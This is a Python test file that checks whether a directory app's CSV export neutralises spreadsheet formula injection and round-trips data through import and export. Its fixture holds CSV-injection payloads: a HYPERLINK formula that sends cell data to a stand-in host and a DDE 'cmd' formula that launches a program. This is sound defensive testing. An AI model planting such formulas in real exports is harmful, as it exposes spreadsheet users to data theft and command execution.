"""CSV export never hands a spreadsheet a formula (OWASP CSV injection), and still round-trips."""

from __future__ import annotations

import csv
import io
import itertools

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy.engine import Engine
from sqlmodel import Session

from directory import crud
from directory.csv_io import FORMULA_STARTS, export_csv, import_csv
from directory.seed import seed
from tests.directory.conftest import NOW

HEAD = "source_id,name,fellowship,days,time,city,state,country,notes,longitude,latitude\n"
_counter = itertools.count()


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_exported_as_plain_text(session: Session) -> None:
    seed(session, now=NOW)
    line = (
        'k1,=HYPERLINK("http://x.example/?"&A1),Alcoholics Anonymous,tue,19:00,'
        '"+cmd|\' /C calc\'!A0",MI,US,"@SUM(1+1)\tx",-83.74,42.28\n'
    )
    report = import_csv(session, HEAD + line, source="csv:x", now=NOW)
    assert report.ok, report.errors
    (row,) = cells(export_csv(session, source="csv:x"))
    assert row["name"] == '\'=HYPERLINK("http://x.example/?"&A1)'
    assert row["city"] == "'+cmd|' /C calc'!A0"
    assert row["notes"] == "'@SUM(1+1)\tx"
    assert row["longitude"] == "-83.74"  # a number is not a formula
    for key, value in row.items():
        if key not in ("longitude", "latitude"):
            assert not value.startswith(FORMULA_STARTS), key


FORMULA = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(FORMULA_STARTS),
    st.text(alphabet=st.characters(codec="utf-8", categories=("L", "N", "P", "S")), max_size=20),
).filter(lambda s: s.strip() == s or s[0] in "\t\r")


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=FORMULA, notes=FORMULA)
def test_any_formula_prefix_is_neutralised_and_comes_back(
    engine: Engine, name: str, notes: str
) -> None:
    source = f"csv:p{next(_counter)}"
    name = "x" + name if not name.strip() or name.strip() != name else name
    with Session(engine) as session:
        seed(session, now=NOW)
        row = {"source_id": "k1", "name": name, "fellowship": "Alcoholics Anonymous",
               "days": "tue", "time": "19:00", "city": "Ypsilanti", "state": "MI",
               "country": "US", "notes": notes, "longitude": "", "latitude": ""}  # fmt: skip
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(row), lineterminator="\n")
        writer.writeheader()
        writer.writerow(row)
        report = import_csv(session, out.getvalue(), source=source, now=NOW)
        if not report.ok:
            return  # a value the import refuses (with a row and field) is not exported at all
        session.commit()
        exported = export_csv(session, source=source)
        for key, value in cells(exported)[0].items():
            assert key in ("longitude", "latitude") or not value.startswith(FORMULA_STARTS)
        group = crud.get_group_by_source(session, source=source, source_id="k1")
        assert group is not None
        again = import_csv(session, exported, source=source, now=NOW)
        assert again.ok and again.new == 0
        session.commit()
        assert export_csv(session, source=source) == exported  # nothing changed on the way back
